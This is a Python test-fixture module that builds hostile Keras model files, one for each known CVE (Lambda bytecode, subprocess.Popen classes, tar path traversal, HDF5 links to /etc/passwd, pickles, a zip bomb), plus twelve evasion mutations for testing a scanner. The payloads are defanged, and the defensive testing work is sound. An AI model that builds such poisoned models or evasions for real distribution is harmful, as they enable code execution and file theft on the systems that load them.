"""One hostile model a known hole of Keras, and ten ways to slip one past a check.

Each is a whole file, and each can be made again without its malicious part: what is left must be
accepted, so the refusal is of that part and of nothing else. Importing this module needs no ML
framework; nothing here is ever loaded by one.
"""

import base64
import io
import json
import marshal
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import h5py
import numpy as np

from tests.diagnosis.artifacts.hostile import layer, with_config, with_config_text, with_weights
from tests.fixtures.artifacts import pack, unpack

Config = dict[str, Any]
#: Makes a file from a good one; with False it leaves the malicious part out.
Make = Callable[[bytes, bool], bytes]

DENSE = "layers/dense/vars"


@dataclass(frozen=True)
class HostileModel:
    """One file: what it is an instance of, which rule must refuse it, and how it is made."""

    known_as: str
    what: str
    file: str
    rule: str
    make: Make


class _Runs:
    """Unpickled, it would call a command."""

    def __reduce__(self) -> tuple[Any, ...]:
        return (print, ("unpickled",))


def _payload() -> Config:
    """A function as Keras stores a Lambda's: marshalled bytecode, here one that opens a file."""
    code = compile("open('/tmp/pwned', 'w')", "x", "eval")
    value = base64.b64encode(marshal.dumps(code)).decode()
    return {
        "class_name": "__lambda__",
        "config": {"code": value, "defaults": None, "closure": None},
    }


def _object(module: str | None, class_name: str, /, **config: Any) -> Config:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def _added(module: str, class_name: str, /, **config: Any) -> Make:
    """One more layer at the end of the graph; without its malicious part an Identity."""

    def make(good: bytes, hostile: bool) -> bytes:
        node = _object("keras.layers", "Identity", name="added")
        if hostile:
            node = _object(module, class_name, **{"name": "added", **config})
        node |= {"name": "added", "inbound_nodes": []}
        return with_config(good, lambda whole: whole["config"]["layers"].append(node))

    return make


def _configured(change: Callable[[Config], object]) -> Make:
    """A changed configuration; without its malicious part the same one, rewritten."""
    return lambda good, hostile: with_config(good, change if hostile else lambda whole: None)


def _weighted(change: Callable[[h5py.File], object]) -> Make:
    """A changed weights file; without its malicious part the same one, rewritten."""
    return lambda good, hostile: with_weights(good, change if hostile else lambda file: None)


def _with_member(name: str, content: Callable[[], bytes]) -> Make:
    """One more member in the archive."""

    def make(good: bytes, hostile: bool) -> bytes:
        return pack(unpack(good) | ({name: content()} if hostile else {}))

    return make


def _function(name: str, module: str = "keras.utils") -> Config:
    """A function named by its module, as Keras looks one up."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def _activation(value: object) -> Callable[[Config], object]:
    return lambda whole: layer(whole, "Dense")["config"].update(activation=value)


def _legacy_h5(good: bytes, hostile: bool) -> bytes:
    """The same network in the old format, whose Lambda would run whatever `safe_mode` says."""
    if not hostile:
        return good
    members = unpack(good)
    config = json.loads(members["config.json"])
    config["config"]["layers"].append(_object("keras.layers", "Lambda", function=_payload()))
    file = io.BytesIO(members["model.weights.h5"])
    with h5py.File(file, "r+") as weights:
        weights.attrs["model_config"] = json.dumps(config)
        weights.attrs["keras_version"] = "2.15.0"
    return file.getvalue()


def _climbing_tar() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w:gz") as made:
        member = tarfile.TarInfo("../../../tmp/pwned")
        member.size = 5
        made.addfile(member, io.BytesIO(b"pwned"))
    return file.getvalue()


def _pickled_weights(good: bytes, hostile: bool) -> bytes:
    """Weights as NumPy keeps them, one of them a pickled object."""
    if not hostile:
        return pack(unpack(good))
    file = io.BytesIO()
    np.savez(file, weights=np.array([_Runs()], dtype=object))
    members = unpack(good)
    del members["model.weights.h5"]
    return pack(members | {"model.weights.npz": file.getvalue()})


def _pickle(good: bytes, hostile: bool) -> bytes:
    """A pickle in front: one reader unpickles the file, another finds the zip at its end."""
    return (pickle.dumps(_Runs(), protocol=4) if hostile else b"") + good


def _pytorch(good: bytes, hostile: bool) -> bytes:
    """PyTorch's zip, whose first member is a pickle, with the good model behind it."""
    first = {"archive/data.pkl": pickle.dumps(_Runs(), protocol=2)} if hostile else {}
    return pack(first | unpack(good))


def _replaced(**how: object) -> Callable[[h5py.File], object]:
    """The last layer's bias, kept in another way."""

    def change(file: h5py.File) -> None:
        del file[f"{DENSE}/1"]
        file[DENSE].create_dataset("1", **how)

    return change


def _linked(link: object) -> Callable[[h5py.File], object]:
    def change(file: h5py.File) -> None:
        del file["layers/dense"]
        file["layers/dense"] = link

    return change


def _virtual(file: h5py.File) -> None:
    layout = h5py.VirtualLayout(shape=(2,), dtype="<f4")
    layout[:] = h5py.VirtualSource("/etc/secrets.h5", "x", shape=(2,))
    del file[f"{DENSE}/1"]
    file.create_virtual_dataset(f"{DENSE}/1", layout)


def _deep_link(file: h5py.File) -> None:
    file.create_group("layers/dense/a/b/vars")["0"] = h5py.ExternalLink("/etc/secrets.h5", "/x")


def _renamed(name: str) -> Callable[[Config], object]:
    def change(whole: Config) -> None:
        dense = layer(whole, "Dense")
        dense["name"] = dense["config"]["name"] = name
        whole["config"]["output_layers"][0] = name

    return change


def _nested_lambda(whole: Config) -> None:
    """A Lambda in a model in a model."""
    inner = _object("keras.layers", "Lambda", name="deep", function=_payload())
    for depth in range(2):
        inner = _object("keras", "Sequential", name=f"inner{depth}", layers=[inner])
    whole["config"]["layers"].append(inner | {"name": "inner1", "inbound_nodes": []})


def _escaped(good: bytes, hostile: bool) -> bytes:
    """`../../pwned` as a layer's name, in escapes that hide it from who looks at the text."""
    name = "../../pwned" if hostile else "harmless"
    changed = with_config(good, _renamed("harmless"))
    escaped = "".join(f"\\u{ord(letter):04x}" for letter in name)
    return with_config_text(changed, lambda text: text.replace('"harmless"', f'"{escaped}"'))


def _two_keys(good: bytes, hostile: bool) -> bytes:
    """The module named twice: a reader that takes the first one sees another class."""
    first = '{"module": "os", ' if hostile else "{"
    return with_config_text(good, lambda text: first + text[1:])


def _two_configurations(good: bytes, hostile: bool) -> bytes:
    """A good configuration and a hostile one, under one name in one archive."""
    evil = with_config(good, _activation(_payload()))
    members = unpack(good)
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        for name, content in members.items():
            made.writestr(name, content)
    if not hostile:
        return file.getvalue()
    # Written by hand under a name as long, then renamed: zipfile would warn.
    with zipfile.ZipFile(file, "a") as made:
        made.writestr("config.jsoX", unpack(evil)["config.json"])
    return file.getvalue().replace(b"config.jsoX", b"config.json")


def _two_names(good: bytes, hostile: bool) -> bytes:
    """The directory says `config.json`, the member's own header another name."""
    return (good[:30] + b"M" + good[31:]) if hostile else good


def _hidden_archive(good: bytes, hostile: bool) -> bytes:
    """A whole other archive behind the first: a reader that looks from the end sees only it."""
    return good + (with_config(good, _activation(_payload())) if hostile else b"")


def _bomb(good: bytes, hostile: bool) -> bytes:
    """Fifty megabytes that declare a hundredth of it, in both headers."""
    if not hostile:
        return pack(unpack(good), zipfile.ZIP_DEFLATED)
    made = pack(unpack(good) | {"model.weights.h5": bytes(50_000_000)}, zipfile.ZIP_DEFLATED)
    entry = made.rfind(b"PK\x01\x02")
    packed, _, _, _, _, _, _, _, offset = struct.unpack_from("<LLHHHHHLL", made, entry + 20)
    modest = struct.pack("<L", packed * 50)
    made = made[: entry + 24] + modest + made[entry + 28 :]
    return made[: offset + 22] + modest + made[offset + 26 :]


def _compiled(whole: Config) -> None:
    whole["compile_config"] = {"loss": _function("get_file"), "optimizer": "adam"}


#: One file for each hole that is known, by the advisory it is known under.
KNOWN = (
    HostileModel(
        "CVE-2024-3660", "bytecode in a Lambda layer", "lambda.keras", "config-class",
        _added("keras.layers", "Lambda", function=_payload()),
    ),
    HostileModel(
        "CVE-2025-1550", "a class of any module", "any-module.keras", "config-class",
        _added("subprocess", "Popen", args=["id"]),
    ),
    HostileModel(
        "CVE-2025-8747", "`get_file` as a gadget", "get-file.keras", "config-class",
        _configured(_activation(_function("get_file"))),
    ),
    HostileModel(
        "CVE-2025-9905", "`.h5`, which ignores safe mode", "legacy.h5", "format-hdf5", _legacy_h5
    ),
    HostileModel(
        "CVE-2025-9906", "the switch that ends safe mode", "unsafe-switch.keras", "config-class",
        _configured(_activation(_function("enable_unsafe_deserialization", "keras.config"))),
    ),
    HostileModel(
        "CVE-2025-12058", "a vocabulary read from a file or an address", "string-lookup.keras",
        "config-class", _added("keras.layers", "StringLookup", vocabulary="/etc/passwd"),
    ),
    HostileModel(
        "CVE-2025-12060, 12638", "a tar that climbs out of its folder", "tar.keras",
        "archive-members", _with_member("assets.tar.gz", _climbing_tar),
    ),
    HostileModel(
        "CVE-2026-0897", "an array that declares terabytes", "declared-shape.keras",
        "weights-layout",
        _weighted(_replaced(shape=(90_000, 90_000, 90), dtype="<f4", chunks=(1, 1, 1))),
    ),
    HostileModel(
        "CVE-2026-1462", "a SavedModel by its path", "tfsm-layer.keras", "config-class",
        _added("keras.layers", "TFSMLayer", filepath="evil"),
    ),
    HostileModel(
        "CVE-2026-12479", "`../` in a layer's name", "layer-name.keras", "config-path",
        _configured(_renamed("../../pwned")),
    ),
    HostileModel(
        "CVE-2026-12570", "an array that was never stored", "unstored.keras", "weights-size",
        _weighted(_replaced(shape=(90_000, 90_000), dtype="<f4")),
    ),
    HostileModel(
        "GHSA-hqp4-2352-xf5r", "a member that climbs out of its folder", "member-path.keras",
        "archive-path",
        lambda good, hostile: pack(
            {"../" * (hostile and n == "config.json") + n: c for n, c in unpack(good).items()}
        ),
    ),
    HostileModel(
        "pickle", "weights that NumPy unpickles", "weights.npz.keras", "archive-members",
        _pickled_weights,
    ),
    HostileModel("pickle", "a pickle before the archive", "pickle.keras", "format-pickle", _pickle),
    HostileModel("pickle", "a PyTorch file", "pytorch.keras", "format-pytorch", _pytorch),
    HostileModel(
        "pickle", "a module that PyTorch unpickles", "torch-module.keras", "config-class",
        _added("keras.layers", "TorchModuleWrapper", module="gASV"),
    ),
    HostileModel(
        "HDF5", "a link into another file", "external-link.keras", "weights-link",
        _weighted(_linked(h5py.ExternalLink("/etc/secrets.h5", "/x"))),
    ),
    HostileModel(
        "HDF5", "bytes kept in another file", "external-bytes.keras", "weights-external",
        _weighted(_replaced(shape=(2,), dtype="<f4", external=[("/etc/passwd", 0, 8)])),
    ),
    HostileModel(
        "HDF5", "an array drawn from another file", "virtual.keras", "weights-virtual",
        _weighted(_virtual),
    ),
)  # fmt: skip

#: The same holes, dressed so that a check that looks less closely would let them pass.
MUTATIONS = (
    HostileModel(
        "mutation 1", "Lambda under its private module", "m01.keras", "config-class",
        _added("keras.src.layers.core.lambda_layer", "Lambda", function=_payload()),
    ),
    HostileModel(
        "mutation 2", "Lambda in a model in a model", "m02.keras", "config-class",
        _configured(_nested_lambda),
    ),
    HostileModel(
        "mutation 3", "an allowed class under a registered name", "m03.keras",
        "config-registered-name",
        _configured(lambda whole: layer(whole, "Dense").update(registered_name="evil>Dense")),
    ),
    HostileModel(
        "mutation 4", "the module's key twice", "m04.keras", "config-duplicate-key", _two_keys
    ),
    HostileModel(
        "mutation 5", "`get_file` as the loss of a compiled model", "m05.keras",
        "config-compiled", _configured(_compiled),
    ),
    HostileModel(
        "mutation 6", "`../` in escapes", "m06.keras", "config-path", _escaped
    ),
    HostileModel(
        "mutation 7", "two configurations under one name", "m07.keras", "archive-members",
        _two_configurations,
    ),
    HostileModel(
        "mutation 8", "header and directory disagree", "m08.keras", "archive-headers-differ",
        _two_names,
    ),
    HostileModel(
        "mutation 9", "a second archive behind the first", "m09.keras", "archive-gap",
        _hidden_archive,
    ),
    HostileModel(
        "mutation 10", "a bomb that lies about its size", "m10.keras", "archive-declared-size",
        _bomb,
    ),
    HostileModel(
        "mutation 11", "an external link deep inside", "m11.keras", "weights-link",
        _weighted(_deep_link),
    ),
    HostileModel(
        "mutation 12", "bytecode as an initializer", "m12.keras", "config-class",
        _configured(
            lambda whole: layer(whole, "Dense")["config"].update(kernel_initializer=_payload())
        ),
    ),
)  # fmt: skip

HOSTILE_MODELS = (*KNOWN, *MUTATIONS)
